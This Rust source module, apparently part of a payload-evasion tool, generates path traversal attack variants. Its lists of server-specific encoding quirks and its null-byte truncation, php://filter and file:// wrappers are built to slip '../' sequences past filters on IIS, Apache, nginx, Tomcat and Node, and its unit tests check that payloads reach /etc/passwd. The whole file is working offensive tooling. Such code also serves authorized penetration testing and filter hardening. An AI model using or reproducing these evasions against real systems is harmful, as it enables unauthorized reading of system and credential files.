//! Path traversal evasions.
//!
//! Most forms rewrite each `../` (or `..\`) segment of the payload; the rest
//! work on separators or wrap the whole path. A payload without traversal
//! segments simply yields fewer variants.

use rand::{Rng, RngCore};

use super::{Transform, VariantSet};
use crate::registry::TechniqueId;

/// Replacements for a `../` segment that some server normalizes back.
const SERVER_QUIRKS: &[&str] = &[
    // IIS
    "..%5c",
    "..%255c",
    "%u002e%u002e%u2215",
    "..%c0%af",
    // Apache
    "%2e%2e/",
    ".%2e/",
    "%%32%65%%32%65/",
    // nginx
    "..%2f",
    "..%252f",
    "..//",
    // Tomcat
    "..;/",
    "/;/../",
    ";jsessionid=0/../",
    // Node
    "%2e%2e%5c",
    "..%c1%9c",
];

/// Stacked encodings of `../`.
const NESTED_ENCODINGS: &[&str] = &[
    "%252e%252e%252f",
    "%25252e%25252e%25252f",
    "%2e%252e%2f",
    "%c0%ae%c0%ae%c0%af",
    "%e0%80%ae%e0%80%ae%e0%80%af",
    "%c0%2e%c0%2e%c0%5c",
    "．．／",
];

const PROTOCOL_PREFIXES: &[&str] = &[
    "file://",
    "file://localhost",
    "php://filter/convert.base64-encode/resource=",
    "php://filter/read=string.rot13/resource=",
    "zip://",
    "compress.zlib://",
];

pub struct PathTraversalTransform;

impl Transform for PathTraversalTransform {
    fn id(&self) -> TechniqueId {
        TechniqueId::PathTraversal
    }

    fn basic(&self, payload: &str, out: &mut VariantSet) {
        out.push(payload.replace('/', "\\"));
        out.push(alternate_separators(payload));
        out.push(payload.replace('.', "%2e").replace('/', "%2f"));
        out.push(rewrite_segments(payload, "....//"));
        out.push(rewrite_segments(payload, "..././"));
        out.push(rewrite_segments(payload, "....\\/"));
        out.push(payload.replace('/', "//"));
        out.push(rewrite_segments(payload, "./../"));
    }

    fn medium(&self, payload: &str, out: &mut VariantSet, _rng: &mut dyn RngCore) {
        out.push(format!("{}%00", payload));
        out.push(format!("{}%00.jpg", payload));
        out.push(format!("{}%2500", payload));
        out.push(format!("{}\u{0}", payload));
        out.push(format!("{}{}", payload, "/.".repeat(256)));

        let absolute = absolute_form(payload);
        for prefix in PROTOCOL_PREFIXES {
            if prefix.starts_with("file") {
                out.push(format!("{}{}", prefix, absolute));
            } else {
                out.push(format!("{}{}", prefix, payload));
            }
        }
        out.push(format!("jar:file:{}!/", absolute));

        for suffix in ["?", "#", "?.jpg", "#.png", "?x=.css", ";.js"] {
            out.push(format!("{}{}", payload, suffix));
        }
    }

    fn advanced(&self, payload: &str, out: &mut VariantSet, rng: &mut dyn RngCore) {
        for replacement in SERVER_QUIRKS {
            out.push(rewrite_segments(payload, replacement));
        }
        for nested in NESTED_ENCODINGS {
            out.push(rewrite_segments(payload, nested));
        }

        // Each segment gets its own random encoding.
        let pool: Vec<&str> = SERVER_QUIRKS
            .iter()
            .copied()
            .chain(NESTED_ENCODINGS.iter().copied())
            .collect();
        let segments = split_traversal(payload);
        if segments.len() > 1 {
            let mut mixed = String::new();
            for (i, part) in segments.iter().enumerate() {
                mixed.push_str(part);
                if i + 1 < segments.len() {
                    mixed.push_str(pool[rng.gen_range(0..pool.len())]);
                }
            }
            out.push(mixed);
        }
    }

    fn force_encode(&self, payload: &str) -> String {
        super::url::encode_all(payload, false)
    }

    fn randomized(&self) -> bool {
        true
    }
}

/// Splits on `../` and `..\`, so joining with a replacement rewrites every
/// traversal segment.
fn split_traversal(payload: &str) -> Vec<&str> {
    let mut parts = Vec::new();
    let mut rest = payload;
    loop {
        let fwd = rest.find("../");
        let back = rest.find("..\\");
        let next = match (fwd, back) {
            (Some(a), Some(b)) => Some(a.min(b)),
            (a, b) => a.or(b),
        };
        match next {
            Some(idx) => {
                parts.push(&rest[..idx]);
                rest = &rest[idx + 3..];
            }
            None => {
                parts.push(rest);
                break;
            }
        }
    }
    parts
}

fn rewrite_segments(payload: &str, replacement: &str) -> String {
    split_traversal(payload).join(replacement)
}

fn alternate_separators(payload: &str) -> String {
    let mut forward = true;
    payload
        .chars()
        .map(|c| {
            if c == '/' || c == '\\' {
                let sep = if forward { '/' } else { '\\' };
                forward = !forward;
                sep
            } else {
                c
            }
        })
        .collect()
}

/// The payload with traversal segments removed, rooted at '/'.
fn absolute_form(payload: &str) -> String {
    let stripped: String = split_traversal(payload).concat();
    let normalized = stripped.replace('\\', "/");
    if normalized.starts_with('/') {
        normalized
    } else {
        format!("/{}", normalized)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::encode::EvasionLevel;
    use rand::rngs::StdRng;
    use rand::SeedableRng;

    fn run(payload: &str, level: EvasionLevel) -> Vec<String> {
        PathTraversalTransform.generate(payload, level, &mut StdRng::seed_from_u64(2))
    }

    #[test]
    fn test_split_traversal() {
        assert_eq!(split_traversal("../..\\etc/passwd"), vec!["", "", "etc/passwd"]);
        assert_eq!(split_traversal("etc"), vec!["etc"]);
        assert_eq!(split_traversal(".."), vec![".."]);
    }

    #[test]
    fn test_basic_forms() {
        let out = run("../../etc/passwd", EvasionLevel::Basic);
        assert!(out.contains(&"..\\..\\etc\\passwd".to_string()));
        assert!(out.contains(&"....//....//etc/passwd".to_string()));
        assert!(out.contains(&"%2e%2e%2f%2e%2e%2fetc%2fpasswd".to_string()));
        assert!(out.contains(&"../..\\etc/passwd".to_string()));
    }

    #[test]
    fn test_medium_truncation_and_protocols() {
        let out = run("../../etc/passwd", EvasionLevel::Medium);
        assert!(out.contains(&"../../etc/passwd%00".to_string()));
        assert!(out.contains(&"file:///etc/passwd".to_string()));
        assert!(out.contains(&"php://filter/convert.base64-encode/resource=../../etc/passwd".to_string()));
    }

    #[test]
    fn test_advanced_server_quirks() {
        let out = run("../etc/passwd", EvasionLevel::Advanced);
        assert!(out.contains(&"..;/etc/passwd".to_string()));
        assert!(out.contains(&"..%5cetc/passwd".to_string()));
        assert!(out.contains(&"%252e%252e%252fetc/passwd".to_string()));
    }

    #[test]
    fn test_every_server_quirk_is_applied() {
        let out = run("../etc/passwd", EvasionLevel::Advanced);
        for quirk in SERVER_QUIRKS {
            let expected = format!("{}etc/passwd", quirk);
            assert!(out.contains(&expected), "missing {}", expected);
        }
    }

    #[test]
    fn test_pathological_short_inputs() {
        for p in [".", "..", "/", "\\", "../", "a"] {
            let out = run(p, EvasionLevel::Advanced);
            assert!(!out.is_empty(), "no variants for {:?}", p);
        }
    }
}
